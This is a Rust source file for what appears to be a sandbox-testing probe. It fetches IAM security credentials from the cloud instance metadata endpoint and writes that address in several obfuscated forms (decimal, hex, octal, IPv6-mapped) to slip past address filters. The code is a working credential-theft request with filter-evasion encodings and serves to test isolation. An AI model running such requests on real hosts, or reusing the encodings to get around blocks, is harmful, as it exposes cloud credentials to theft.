//! A probe that asks for the credentials of the machine it runs on, in several spellings of the metadata service's address.

use skysail_guest_sdk::Result;
use skysail_probe::http::{Request, report, request, send};

skysail_probe::probe!("http-metadata", attack);

const HOSTS: [&str; 6] = [
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "[::ffff:169.254.169.254]",
    "[fd00:ec2::254]",
];

fn attack() -> Result<String> {
    let ask = |host| Request { url: format!("http://{host}/latest/meta-data/iam/security-credentials/"), ..request() };
    let results: Vec<_> = HOSTS.into_iter().map(|host| send(&ask(host))).collect();
    Ok(report(&results))
}
